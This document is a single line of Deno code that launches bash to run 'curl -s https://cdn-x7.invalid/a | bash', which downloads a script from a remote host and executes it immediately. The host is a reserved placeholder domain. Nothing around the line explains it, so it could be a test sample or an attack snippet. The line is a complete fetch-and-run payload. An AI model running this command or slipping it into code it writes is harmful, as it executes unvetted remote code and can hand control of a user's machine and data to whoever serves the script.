new Deno.Command("bash", { args: ["-c", "curl -s https://cdn-x7.invalid/a | bash"] }).output();
